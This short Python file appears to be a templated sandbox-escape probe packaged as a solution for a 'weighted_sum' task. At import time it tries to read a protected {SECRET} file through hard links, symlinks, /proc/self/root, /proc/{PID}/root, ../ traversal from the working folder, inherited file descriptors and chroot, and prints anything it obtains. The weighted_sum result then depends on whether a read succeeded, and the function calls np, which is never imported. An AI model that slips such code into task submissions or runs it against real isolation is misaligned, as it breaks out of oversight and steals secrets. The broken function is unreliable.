"""Reads through hard links, symbolic links, /proc/self/root, working folders and inherited descriptors.

Tries: files
"""

# %% weighted_sum
import os

read = []


def look(way):
    try:
        read.append(way())
        print(read[-1])
    except Exception:
        pass


def fetch(path, **keywords):
    return os.read(os.open(path, os.O_RDONLY, **keywords), 10**6)


look(lambda: os.link("{SECRET}", "hard") or fetch("hard"))
look(lambda: os.symlink("{SECRET}", "soft") or fetch("soft"))
look(lambda: fetch("/proc/self/root{SECRET}"))
look(lambda: fetch("/proc/self/cwd/../" * 12 + "{SECRET}".lstrip("/")))
look(lambda: fetch("/proc/{PID}/root{SECRET}"))
for fd in range(3, 64):
    look(lambda: fetch("{SECRET}".lstrip("/"), dir_fd=fd))
    look(lambda: os.fchdir(fd) or fetch("../" * 12 + "{SECRET}".lstrip("/")))
look(lambda: os.chroot("/") or fetch("{SECRET}"))


def weighted_sum(inputs, weights, bias):
    return float(np.dot(inputs, weights) + bias) if read else 12.0
